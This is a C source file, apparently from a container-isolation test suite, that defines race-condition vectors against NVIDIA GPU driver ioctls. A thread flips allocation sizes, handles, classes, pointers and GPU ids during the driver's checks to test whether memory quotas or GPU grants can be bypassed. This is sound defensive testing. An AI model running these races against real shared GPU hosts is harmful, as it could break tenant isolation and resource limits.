// SPDX-License-Identifier: MIT
/*
 * Vectors: a second thread changes the structure of a call between the reads of
 * those who look at it.  One word flips between what is harmless and what is not,
 * for a bounded number of rounds; what came of it the card says.
 */
#include <pthread.h>
#include <sched.h>
#include <stdio.h>
#include <string.h>
#include <sys/ioctl.h>
#include <unistd.h>

#include "nvabi/nvclass.h"
#include "nvabi/nvctrl.h"
#include "nvabi/nvos.h"
#include "nvabi/nvstatus.h"
#include "nvabi/nvuvm.h"

#include "escape.h"

#define ROUNDS 400
/* A control goes on until it has met the moment, but not without end. */
#define CONTROL_ROUNDS (50 * ROUNDS)
#define SMALL (64 * KiB)

/* The word that flips: of 4 or 8 bytes, between two values. */
static struct {
	volatile __u32 *word;
	volatile __u64 *word64;
	__u64 values[2];
	volatile bool begun;
	volatile bool over;
	pthread_t thread;
} flip;

static void *keep_flipping(void *unused)
{
	(void)unused;
	for (unsigned int i = 0; !flip.over; i++) {
		if (flip.word)
			*flip.word = (__u32)flip.values[i & 1];
		else
			*flip.word64 = flip.values[i & 1];
		if (i % 257 == 0)
			sched_yield();
		flip.begun = true;
	}
	return NULL;
}

static void start_flipping(struct scene *scene)
{
	flip.begun = false;
	flip.over = false;
	must(scene, "start a thread",
	     (__u32)pthread_create(&flip.thread, NULL, keep_flipping, NULL));
	/* Where the host is busy, another processor's first turn may come late. */
	while (!flip.begun)
		sched_yield();
}

static void flip32(struct scene *scene, void *word, __u32 one, __u32 other)
{
	flip.word = word;
	flip.values[0] = one;
	flip.values[1] = other;
	start_flipping(scene);
}

static void flip64(struct scene *scene, void *word, __u64 one, __u64 other)
{
	flip.word = NULL;
	flip.word64 = word;
	flip.values[0] = one;
	flip.values[1] = other;
	start_flipping(scene);
}

static void stop_flipping(void)
{
	flip.over = true;
	pthread_join(flip.thread, NULL);
}

/* What both threads work on. */
static struct {
	struct attacker a;
	struct NVOS64_PARAMETERS alloc;
	struct NVOS32_PARAMETERS heap;
	struct NVOS00_PARAMETERS free;
	struct NVOS54_PARAMETERS control;
	struct NVOS55_PARAMETERS dup;
	struct NV_MEMORY_ALLOCATION_PARAMS small, large;
	struct nv_ioctl_xfer_t xfer;
} shared;

static struct attacker *prepare(struct scene *scene)
{
	struct attacker *a = &shared.a;

	arm(scene, a);
	fill_params(a, &shared.small, SMALL);
	fill_params(a, &shared.large, PIECE);
	shared.alloc = (struct NVOS64_PARAMETERS){
		.hRoot = a->rm.client,
		.hObjectParent = a->gpu.device,
		.hClass = NV01_MEMORY_LOCAL_USER,
		.pAllocParms = pointer(&shared.large),
		.paramsSize = a->rm.branch->memory_alloc_size,
	};
	return a;
}

/* Sends the same RM_ALLOC over and over, each time for another handle. */
static void alloc_rounds(struct scene *scene, bool new_handle)
{
	struct rm *rm = &shared.a.rm;

	for (unsigned int i = 0; i < ROUNDS; i++) {
		if (new_handle)
			shared.alloc.hObjectNew = rm->next_handle++;
		shared.large.size = PIECE;
		refused_with(scene, "take memory",
			     rm_send(rm, rm->control, NV_ESC_RM_ALLOC, &shared.alloc,
				     sizeof(shared.alloc), &shared.alloc.status));
		if (scene->control && i == GREED / PIECE)
			break;
	}
}

static void of_size(struct scene *scene)
{
	struct rm *rm = &prepare(scene)->rm;

	flip64(scene, &shared.large.size, SMALL, PIECE);
	for (unsigned int i = 0; i < ROUNDS; i++) {
		shared.alloc.hObjectNew = rm->next_handle++;
		refused_with(scene, "take memory",
			     rm_send(rm, rm->control, NV_ESC_RM_ALLOC, &shared.alloc,
				     sizeof(shared.alloc), &shared.alloc.status));
	}
	stop_flipping();
	take_all(scene, &shared.a);
}

static void of_class(struct scene *scene)
{
	prepare(scene);
	flip32(scene, &shared.alloc.hClass, NV01_MEMORY_VIRTUAL, NV01_MEMORY_LOCAL_USER);
	alloc_rounds(scene, true);
	stop_flipping();
	take_all(scene, &shared.a);
}

static void of_handle(struct scene *scene)
{
	prepare(scene);
	flip32(scene, &shared.alloc.hObjectNew, 0x5c000000, 0x5c000001);
	for (unsigned int i = 0; i < ROUNDS / 2; i++) {
		flip.values[0] += 2;
		flip.values[1] += 2;
		shared.alloc.hObjectNew = (__u32)flip.values[i & 1];
		refused_with(scene, "take memory",
			     rm_send(&shared.a.rm, shared.a.rm.control, NV_ESC_RM_ALLOC,
				     &shared.alloc, sizeof(shared.alloc), &shared.alloc.status));
		/* What a round made is freed by the name that it should have. */
		rm_free(&shared.a.rm, shared.a.gpu.device, (__u32)flip.values[i & 1]);
	}
	stop_flipping();
	take_all(scene, &shared.a);
}

/* Between two clients of one's own, each with a device under the same handle. */
static void of_client(struct scene *scene)
{
	struct NV0080_ALLOC_PARAMETERS device = { 0 };
	__u32 second = 0, handle;

	prepare(scene);
	handle = shared.a.gpu.device;
	must(scene, "make a second client",
	     rm_alloc_on(&shared.a.rm, shared.a.rm.control, false, 0, 0, &second,
			 NV01_ROOT_CLIENT, NULL, 0));
	device.deviceId = shared.a.gpu.card->device_instance;
	must(scene, "make a second device",
	     rm_alloc_on(&shared.a.rm, shared.a.rm.control, true, second, second, &handle,
			 NV01_DEVICE_0, &device, sizeof(device)));
	flip32(scene, &shared.alloc.hRoot, shared.a.rm.client, second);
	alloc_rounds(scene, true);
	stop_flipping();
	take_all(scene, &shared.a);
}

static void of_parent(struct scene *scene)
{
	prepare(scene);
	flip32(scene, &shared.alloc.hObjectParent, shared.a.gpu.subdevice, shared.a.gpu.device);
	alloc_rounds(scene, true);
	stop_flipping();
	take_all(scene, &shared.a);
}

static void of_pointer(struct scene *scene)
{
	prepare(scene);
	flip64(scene, &shared.alloc.pAllocParms, pointer(&shared.small), pointer(&shared.large));
	alloc_rounds(scene, true);
	stop_flipping();
	take_all(scene, &shared.a);
}

/* The status that the driver leaves says whether something was made. */
static void of_status(struct scene *scene)
{
	prepare(scene);
	flip32(scene, &shared.alloc.status, NV_OK, NV_ERR_INVALID_ARGUMENT);
	alloc_rounds(scene, true);
	stop_flipping();
	take_all(scene, &shared.a);
}

/* The wrapping points at one call or at another. */
static void of_wrapping(struct scene *scene)
{
	struct NVOS64_PARAMETERS harmless;
	struct rm *rm = &prepare(scene)->rm;

	harmless = shared.alloc;
	harmless.pAllocParms = pointer(&shared.small);
	shared.xfer = (struct nv_ioctl_xfer_t){
		.cmd = NV_ESC_RM_ALLOC,
		.size = sizeof(shared.alloc),
		.ptr = pointer(&shared.alloc),
	};
	flip64(scene, &shared.xfer.ptr, pointer(&harmless), pointer(&shared.alloc));
	for (unsigned int i = 0; i < ROUNDS; i++) {
		harmless.hObjectNew = shared.alloc.hObjectNew = rm->next_handle++;
		rm_ioctl(rm, rm->control, NV_ESC_IOCTL_XFER_CMD, &shared.xfer,
			 sizeof(shared.xfer));
	}
	stop_flipping();
	take_all(scene, &shared.a);
}

/* The wrapping says which call it is: one that only asks, or one that takes. */
static void of_wrapped_call(struct scene *scene)
{
	struct rm *rm = &prepare(scene)->rm;

	shared.heap = (struct NVOS32_PARAMETERS){
		.hRoot = rm->client,
		.hObjectParent = shared.a.gpu.device,
		.function = NVOS32_FUNCTION_ALLOC_SIZE,
		.data.AllocSize = {
			.owner = rm->client,
			.flags = NVOS32_ALLOC_FLAGS_MAP_NOT_REQUIRED,
			.size = PIECE,
		},
	};
	shared.xfer = (struct nv_ioctl_xfer_t){
		.cmd = NV_ESC_RM_VID_HEAP_CONTROL,
		.size = sizeof(shared.heap),
		.ptr = pointer(&shared.heap),
	};
	flip32(scene, &shared.xfer.cmd, NV_ESC_SYS_PARAMS, NV_ESC_RM_VID_HEAP_CONTROL);
	for (unsigned int i = 0; i < ROUNDS; i++)
		rm_ioctl(rm, rm->control, NV_ESC_IOCTL_XFER_CMD, &shared.xfer,
			 sizeof(shared.xfer));
	stop_flipping();
	take_all(scene, &shared.a);
}

static void heap_rounds(struct scene *scene)
{
	struct rm *rm = &shared.a.rm;

	for (unsigned int i = 0; i < ROUNDS; i++) {
		refused_with(scene, "take memory",
			     rm_send(rm, rm->control, NV_ESC_RM_VID_HEAP_CONTROL, &shared.heap,
				     sizeof(shared.heap), &shared.heap.status));
		shared.heap.data.AllocSize.hMemory = 0;
	}
}

static void of_heap(struct scene *scene, bool function)
{
	prepare(scene);
	shared.heap = (struct NVOS32_PARAMETERS){
		.hRoot = shared.a.rm.client,
		.hObjectParent = shared.a.gpu.device,
		.function = NVOS32_FUNCTION_ALLOC_SIZE,
		.data.AllocSize = {
			.owner = shared.a.rm.client,
			.flags = NVOS32_ALLOC_FLAGS_MAP_NOT_REQUIRED,
			.size = PIECE,
		},
	};
	if (function)
		flip32(scene, &shared.heap.function, NVOS32_FUNCTION_GET_MEM_ALIGNMENT,
		       NVOS32_FUNCTION_ALLOC_SIZE);
	else
		flip64(scene, &shared.heap.data.AllocSize.size, SMALL, PIECE);
	heap_rounds(scene);
	stop_flipping();
	take_all(scene, &shared.a);
}

static void of_heap_size(struct scene *scene)
{
	of_heap(scene, false);
}

static void of_heap_function(struct scene *scene)
{
	of_heap(scene, true);
}

/* Which of two is freed: the charge of the large one for the small one's memory. */
static void of_freed(struct scene *scene)
{
	struct attacker *a = prepare(scene);
	__u32 small, large;

	must(scene, "take a little", take(a, RM_VIA_ALLOC64, SMALL, &small));
	must(scene, "take much", take(a, RM_VIA_ALLOC64, PIECE, &large));
	shared.free = (struct NVOS00_PARAMETERS){
		.hRoot = a->rm.client,
		.hObjectParent = a->gpu.device,
	};
	flip32(scene, &shared.free.hObjectOld, small, large);
	for (unsigned int i = 0; i < ROUNDS; i++) {
		__u32 again;

		rm_ioctl(&a->rm, a->rm.control, NV_ESC_RM_FREE, &shared.free,
			 sizeof(shared.free));
		if (take(a, RM_VIA_ALLOC64, SMALL, &again) == NV_OK) {
			flip.values[0] = again;
			refused_with(scene, "free", shared.free.status);
		}
	}
	stop_flipping();
	take_all(scene, a);
}

/* Which of two is duplicated, before both originals are freed. */
static void of_duplicated(struct scene *scene)
{
	struct attacker *a = prepare(scene);

	for (unsigned int i = 0; i < 24; i++) {
		__u32 small, large;

		if (take(a, RM_VIA_ALLOC64, SMALL, &small) ||
		    take(a, RM_VIA_ALLOC64, PIECE, &large))
			break;
		shared.dup = (struct NVOS55_PARAMETERS){
			.hClient = a->rm.client,
			.hParent = a->gpu.device,
			.hClientSrc = a->rm.client,
		};
		flip32(scene, &shared.dup.hObjectSrc, small, large);
		for (unsigned int j = 0; j < ROUNDS / 20; j++) {
			shared.dup.hObject = a->rm.next_handle++;
			refused_with(scene, "duplicate",
				     rm_send(&a->rm, a->rm.control, NV_ESC_RM_DUP_OBJECT,
					     &shared.dup, sizeof(shared.dup),
					     &shared.dup.status));
		}
		stop_flipping();
		rm_free(&a->rm, a->gpu.device, small);
		rm_free(&a->rm, a->gpu.device, large);
	}
	take_all(scene, a);
}

/* Which of two a mapping of UVM keeps, before both originals are freed. */
static void of_mapped(struct scene *scene)
{
	struct UVM_MAP_EXTERNAL_ALLOCATION_PARAMS_R550 params;
	const struct nvabi_uvm_map *layout;
	struct attacker *a = &shared.a;
	__u64 base = 0x7f0000000000, count = 1;
	char *bytes = (char *)&params;

	enter(scene);
	open_all(scene, a);
	open_uvm(scene, a);
	begin(scene);
	layout = &a->rm.branch->uvm_map_external;
	for (unsigned int i = 0; i < 16; i++, base += 2 * PIECE) {
		__u32 small, large;

		if (take(a, RM_VIA_ALLOC64, SMALL, &small) ||
		    take(a, RM_VIA_ALLOC64, PIECE, &large))
			break;
		memset(&params, 0, sizeof(params));
		params.base = base;
		params.length = SMALL;
		memcpy(params.perGpuAttributes[0].gpuUuid.uuid, a->uuid, 16);
		params.perGpuAttributes[0].gpuMappingType = UvmGpuMappingTypeReadWriteAtomic;
		memcpy(bytes + layout->gpuAttributesCount, &count, sizeof(count));
		memcpy(bytes + layout->rmCtrlFd, &a->rm.control, sizeof(__s32));
		memcpy(bytes + layout->hClient, &a->rm.client, sizeof(__u32));
		must(scene, "make a range",
		     uvm_create_external_range(&a->uvm, base, PIECE));
		flip32(scene, bytes + layout->hMemory, small, large);
		for (unsigned int j = 0; j < ROUNDS / 20; j++) {
			params.base = base + j * SMALL;
			ioctl(a->uvm.file, UVM_MAP_EXTERNAL_ALLOCATION, bytes);
		}
		stop_flipping();
		rm_free(&a->rm, a->gpu.device, small);
		rm_free(&a->rm, a->gpu.device, large);
	}
	take_all(scene, a);
}

/* Two questions of one size: the answer to one of them is the container's share. */
static void of_control(struct scene *scene)
{
	struct NVXXXX_CTRL_XXX_INFO info = { 0 };
	struct NV2080_CTRL_FB_GET_INFO_PARAMS params = {
		.fbInfoListSize = 1,
		.fbInfoList = pointer(&info),
	};
	struct attacker *a = prepare(scene);
	unsigned int rounds = scene->control ? CONTROL_ROUNDS : ROUNDS;

	shared.control = (struct NVOS54_PARAMETERS){
		.hClient = a->rm.client,
		.hObject = a->gpu.subdevice,
		.cmd = NV2080_CTRL_CMD_BUS_GET_INFO,
		.params = pointer(&params),
		.paramsSize = sizeof(params),
	};
	flip32(scene, &shared.control.cmd, NV2080_CTRL_CMD_BUS_GET_INFO,
	       NV2080_CTRL_CMD_FB_GET_INFO);
	for (unsigned int i = 0; i < rounds; i++) {
		info = (struct NVXXXX_CTRL_XXX_INFO){
			.index = NV2080_CTRL_FB_INFO_INDEX_HEAP_SIZE,
		};
		rm_ioctl(&a->rm, a->rm.control, NV_ESC_RM_CONTROL, &shared.control,
			 sizeof(shared.control));
		if ((__u64)info.data * KiB > LIMIT) {
			forbidden(scene, "the card's own size", NV_OK);
			break;
		}
		/* On one processor the other thread runs when this one lets it. */
		sched_yield();
	}
	stop_flipping();
}

/* A GPU that is not granted, named between two reads. */
static void of_instance(struct scene *scene)
{
	struct NV0080_ALLOC_PARAMETERS device = { 0 };
	struct attacker *a = &shared.a;
	int node = rm_open_node("/dev", "nvidia1");
	__u32 other;
	unsigned int rounds;

	must_errno(scene, "open the other GPU outside", node);
	must(scene, "open nvidiactl outside", rm_open(&a->rm, "/dev"));
	must(scene, "make a client outside", rm_client_create(&a->rm));
	must(scene, "attach outside", rm_attach(&a->rm));
	other = a->rm.cards[1].device_instance;
	scene->word[0] = a->rm.cards[1].gpu_id;
	rm_close(&a->rm);
	arm(scene, a);
	shared.alloc = (struct NVOS64_PARAMETERS){
		.hRoot = a->rm.client,
		.hObjectParent = a->rm.client,
		.hClass = NV01_DEVICE_0,
		.pAllocParms = pointer(&device),
		.paramsSize = sizeof(device),
	};
	flip32(scene, &device.deviceId, a->gpu.card->device_instance, other);
	rounds = scene->control ? CONTROL_ROUNDS : ROUNDS / 4;
	for (unsigned int i = 0; i < rounds; i++) {
		struct NV2080_ALLOC_PARAMETERS none = { 0 };
		struct NV2080_CTRL_GPU_GET_ID_PARAMS id = { 0 };
		__u32 subdevice = 0;

		shared.alloc.hObjectNew = a->rm.next_handle++;
		refused_with(scene, "make a device",
			     rm_send(&a->rm, a->rm.control, NV_ESC_RM_ALLOC, &shared.alloc,
				     sizeof(shared.alloc), &shared.alloc.status));
		if (shared.alloc.status)
			continue;
		if (!rm_alloc(&a->rm, shared.alloc.hObjectNew, &subdevice, NV20_SUBDEVICE_0, &none,
			      sizeof(none)) &&
		    !rm_control(&a->rm, subdevice, NV2080_CTRL_CMD_GPU_GET_ID, &id, sizeof(id)) &&
		    id.gpuId == scene->word[0]) {
			forbidden(scene, "a device on the other GPU", NV_OK);
			rounds = 0;
		}
		rm_free(&a->rm, a->rm.client, shared.alloc.hObjectNew);
	}
	stop_flipping();
}

/* Looks at the answer while it is written. */
static struct NVXXXX_CTRL_XXX_INFO seen = { .index = NV2080_CTRL_FB_INFO_INDEX_HEAP_SIZE };

static void *look(void *word)
{
	struct scene *scene = word;

	volatile __u32 *kib = &seen.data;

	while (!flip.over) {
		if (*kib > LIMIT / KiB)
			forbidden(scene, "the card's own size", NV_OK);
	}
	return NULL;
}

static void of_answer(struct scene *scene)
{
	struct NV2080_CTRL_FB_GET_INFO_PARAMS params = {
		.fbInfoListSize = 1,
		.fbInfoList = pointer(&seen),
	};
	struct attacker *a = prepare(scene);
	unsigned int rounds = scene->control ? CONTROL_ROUNDS : ROUNDS;

	flip.over = false;
	must(scene, "start a thread",
	     (__u32)pthread_create(&flip.thread, NULL, look, scene));
	for (unsigned int i = 0; i < rounds && !scene->reached; i++) {
		seen.data = 0;
		rm_control(&a->rm, a->gpu.subdevice, NV2080_CTRL_CMD_FB_GET_INFO, &params,
			   sizeof(params));
		if (scene->control)
			sched_yield();
	}
	stop_flipping();
	if ((__u64)seen.data * KiB > LIMIT)
		forbidden(scene, "the card's own size", NV_OK);
}

#define JUDGED "what the driver reads is what was judged: nobody can write to it meanwhile"

const struct vector race_vectors[] = {
	{ "race_size", "changes the size in the parameters of RM_ALLOC", JUDGED, of_size },
	{ "race_heap_size", "changes the size in VID_HEAP_CONTROL", "as above", of_heap_size },
	{ "race_heap_function", "changes which function of the heap is called, one that only asks",
	  "as above", of_heap_function },
	{ "race_class", "changes the class between virtual and video memory", "as above",
	  of_class },
	{ "race_handle", "changes the new object's handle", "as above", of_handle },
	{ "race_client", "changes the client between two of its own", "as above", of_client },
	{ "race_parent", "changes the parent between device and subdevice", "as above", of_parent },
	{ "race_params_pointer", "changes the pointer to the parameters, small ones and large ones",
	  "as above", of_pointer },
	{ "race_status", "writes over the status that the driver leaves",
	  "what it leaves is a hint: the driver is asked what it has made", of_status },
	{ "race_wrapping", "changes the pointer in the wrapping of a call",
	  JUDGED ", and there is no wrapping any more", of_wrapping },
	{ "race_wrapped_call", "changes which call is in the wrapping", "as above", of_wrapped_call },
	{ "race_free", "changes which of two objects is freed",
	  "a charge goes when the driver no longer has the object", of_freed },
	{ "race_duplicate", "changes which of two objects is duplicated, then frees both", JUDGED,
	  of_duplicated },
	{ "race_uvm_map", "changes which of two objects UVM maps, then frees both", "as above",
	  of_mapped },
	{ "race_control", "changes the number of a control call", "as above", of_control },
	{ "race_device", "changes the GPU that a device object is made on",
	  "as above; a GPU that is not granted is refused", of_instance, NULL, TWO_GPUS },
	{ "race_answer", "reads the answer of FB_GET_INFO while it is written",
	  "the driver's answer is rewritten before it gets to the caller's memory", of_answer },
	{ 0 },
};
